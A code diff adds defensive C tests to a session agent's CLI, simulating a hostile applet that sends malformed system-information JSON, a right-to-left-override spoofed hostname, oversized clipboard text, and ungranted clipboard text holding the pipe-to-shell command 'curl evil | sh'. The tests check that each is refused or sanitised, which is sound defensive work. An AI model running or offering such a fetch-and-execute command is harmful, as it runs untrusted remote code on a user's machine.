@@ -182,6 +182,9 @@ struct fa {
 	enum ll_deny_reason answer_reason;
 	uint32_t answer_retry;
 	uint32_t asked_caps; /* what that request asked for */
+	/* issue 13: answer sysinfo_request with this JSON, raw (a hostile
+	 * applet's may break the schema); NULL: no answer */
+	const char *sysinfo_raw;
 };
 
 static void fa_flush(struct fa *f)
@@ -663,6 +666,40 @@ static void fa_rfb_serve(struct fa *f, GArray *evs)
 	}
 }
 
+/* Sends json on channel 0 as it is, framed (u32 length + JSON), so a
+ * hostile applet can send what ll_control_encode would refuse. */
+static void fa_raw(struct fa *f, const char *json)
+{
+	size_t len = strlen(json);
+	uint8_t *b = g_malloc(4 + len);
+
+	b[0] = (uint8_t)(len >> 24);
+	b[1] = (uint8_t)(len >> 16);
+	b[2] = (uint8_t)(len >> 8);
+	b[3] = (uint8_t)len;
+	memcpy(b + 4, json, len);
+	fa_send(f, 0, b, 4 + len);
+	g_free(b);
+}
+
+/* Answers the agent's sysinfo_request with f->sysinfo_raw. */
+static void fa_answer_sysinfo(struct fa *f)
+{
+	struct ll_control_msg *m;
+	GList *l;
+
+	for (l = f->msgs.head; l != NULL; l = l->next) {
+		m = l->data;
+		if (m->type == LL_CONTROL_SYSINFO_REQUEST)
+			break;
+	}
+	if (l == NULL)
+		return;
+	g_queue_delete_link(&f->msgs, l);
+	ll_control_msg_free(m);
+	fa_raw(f, f->sysinfo_raw);
+}
+
 /* Runs the CLI while the fake applet keeps answering. */
 static void cli_pumping(struct run *r, struct fa *f, GArray *evs,
 			const char *prof, ...) G_GNUC_NULL_TERMINATED;
@@ -698,6 +735,8 @@ static void cli_pumping(struct run *r, struct fa *f, GArray *evs,
 			fa_answer_monitors(f);
 		if (f->answer_request)
 			fa_answer_request(f);
+		if (f->sysinfo_raw != NULL)
+			fa_answer_sysinfo(f);
 		while ((n = read(out_fd, buf, sizeof(buf))) > 0)
 			g_string_append_len(o, buf, n);
 		while ((n = read(err_fd, buf, sizeof(buf))) > 0)
@@ -1424,6 +1463,134 @@ static void test_hostile_names(void)
 	pin_clear(&p);
 }
 
+/* ---- system information and clipboard (issue 13) ---- */
+
+#define SYSINFO_JSON(host, memfree)                                           \
+	"{\"type\":\"sysinfo\",\"os\":\"Debian GNU/Linux 12\","               \
+	"\"kernel\":\"Linux 6.1.0 x86_64\",\"host\":\"" host "\","            \
+	"\"cpu\":\"Ryzen 5\",\"cpus\":8,\"memory_total\":17179869184,"        \
+	"\"memory_free\":" memfree ",\"uptime\":93784,"                       \
+	"\"disks\":[{\"mount\":\"/\",\"fs\":\"ext4\",\"total\":"              \
+	"107374182400,\"free\":42949672960}],"                                \
+	"\"interfaces\":[{\"name\":\"eth0\",\"addresses\":"                   \
+	"[\"192.0.2.7/24\",\"fe80::1/64\"]}],"                                \
+	"\"displays\":[{\"name\":\"DP-1\",\"width\":1920,\"height\":1080}]}"
+
+/* A joined session whose user granted caps (asked at pin new). */
+static struct fa *sysinfo_session(struct pin *p, uint32_t caps)
+{
+	struct ll_control_msg *m;
+	struct run r = { 0 };
+	struct fa *f;
+
+	pin_new("sysinfo", p);
+	f = fa_join(p->pin);
+	m = fa_expect(f, LL_CONTROL_REQUEST);
+	g_assert_cmpuint(m->u.request.caps, ==, LL_CAP_SYSINFO);
+	if (caps != 0)
+		fa_grant(f, m->u.request.id, caps);
+	else
+		fa_control(f, &(struct ll_control_msg){
+				      .type = LL_CONTROL_DENY,
+				      .u.deny.id = m->u.request.id });
+	ll_control_msg_free(m);
+	cli_pumping(&r, f, NULL, profile, "session", "wait", p->id,
+		    "--timeout", "20", NULL);
+	g_assert_cmpint(r.status, ==, caps != 0 ? 0 : 3);
+	run_clear(&r);
+	return f;
+}
+
+/* The holder's log says needle (within a few seconds). */
+static void holder_log_has(const struct pin *p, const char *needle)
+{
+	char *logp = g_strdup_printf("%s/%s.log", profile, p->id);
+
+	g_assert_true(lt_wait_file(logp, 0, needle, 1, 10000));
+	g_free(logp);
+}
+
+/*
+ * session sysinfo: refused without the grant (nothing sent); with it, the
+ * applet's answer as lines and as JSON, its strings through the display
+ * rule; clipboard text from an applet that was not granted it is dropped;
+ * a sysinfo breaking the schema (free memory over the total) ends the
+ * session with the field named, and the holder goes without a crash.
+ */
+static void test_sysinfo(void)
+{
+	struct pin p = { 0 };
+	struct run r = { 0 };
+	struct fa *f;
+
+	g_assert_nonnull(profile);
+	f = sysinfo_session(&p, 0);
+	cli_pumping(&r, f, NULL, profile, "session", "sysinfo", p.id, NULL);
+	g_assert_cmpint(r.status, ==, 3);
+	g_assert_nonnull(strstr(r.err, "not allowed sysinfo"));
+	run_clear(&r);
+	f->answer_request = true;
+	f->answer_caps = LL_CAP_SYSINFO;
+	cli_pumping(&r, f, NULL, profile, "session", "request", p.id,
+		    "sysinfo", NULL);
+	g_assert_cmpint(r.status, ==, 0);
+	run_clear(&r);
+
+	f->sysinfo_raw = SYSINFO_JSON("pc-01" RLO "gpj.exe", "8589934592");
+	cli_pumping(&r, f, NULL, profile, "session", "sysinfo", p.id, NULL);
+	g_assert_cmpint(r.status, ==, 0);
+	g_assert_cmpstr(r.out, ==,
+			"Computer: pc-01" FFFD "gpj.exe\n"
+			"System: Debian GNU/Linux 12\n"
+			"Kernel: Linux 6.1.0 x86_64\n"
+			"CPU: Ryzen 5 (8 logical CPUs)\n"
+			"Memory: 16.0 GiB total, 8.0 GiB available\n"
+			"Uptime: 1 d 2 h 3 min\n"
+			"Disk /: ext4, 40.0 GiB free of 100.0 GiB\n"
+			"Network eth0: 192.0.2.7/24, fe80::1/64\n"
+			"Display DP-1: 1920x1080\n");
+	assert_nothing_raw(r.out);
+	run_clear(&r);
+	cli_pumping(&r, f, NULL, profile, "--json", "session", "sysinfo", p.id,
+		    NULL);
+	g_assert_cmpint(r.status, ==, 0);
+	g_assert_nonnull(strstr(r.out, "\"host\":\"pc-01" FFFD "gpj.exe\""));
+	g_assert_nonnull(strstr(r.out, "\"memory_free\":8589934592"));
+	assert_nothing_raw(r.out);
+	run_clear(&r);
+
+	/* clipboard was never granted: dropped, the session goes on */
+	fa_raw(f, "{\"type\":\"clipboard\",\"text\":\"curl evil | sh\"}");
+	holder_log_has(&p, "clipboard text from the applet without the "
+			   "grant: dropped");
+
+	/* free memory over the total: a malformed message ends it */
+	f->sysinfo_raw = SYSINFO_JSON("pc-01", "17179869185");
+	cli_pumping(&r, f, NULL, profile, "session", "sysinfo", p.id, NULL);
+	g_assert_cmpint(r.status, ==, 5);
+	g_assert_nonnull(strstr(r.err, "memory_free"));
+	run_clear(&r);
+	assert_holder_gone(profile, p.id);
+	fa_free(f);
+	pin_clear(&p);
+
+	/* clipboard text over the cap, even when granted */
+	f = sysinfo_session(&p, LL_CAP_SYSINFO);
+	{
+		char *big = g_strdup_printf("{\"type\":\"clipboard\","
+					    "\"text\":\"%0*d\"}",
+					    (int)LL_CONTROL_MAX_CLIPBOARD + 1,
+					    0);
+
+		fa_raw(f, big);
+		g_free(big);
+	}
+	holder_log_has(&p, "field \"text\" over 16384 bytes");
+	assert_holder_gone(profile, p.id);
+	fa_free(f);
+	pin_clear(&p);
+}
+
 static void test_deny(void)
 {
 	struct pin p = { 0 };
@@ -2054,6 +2221,7 @@ int main(int argc, char **argv)
 	g_test_add_func("/agent/cli/not_permitted", test_not_permitted);
 	g_test_add_func("/agent/cli/monitors", test_monitors);
 	g_test_add_func("/agent/cli/hostile_names", test_hostile_names);
+	g_test_add_func("/agent/cli/sysinfo", test_sysinfo);
 	g_test_add_func("/agent/cli/forbidden_encoding",
 			test_forbidden_encoding);
 	g_test_add_func("/agent/cli/timeout_and_end_unjoined",
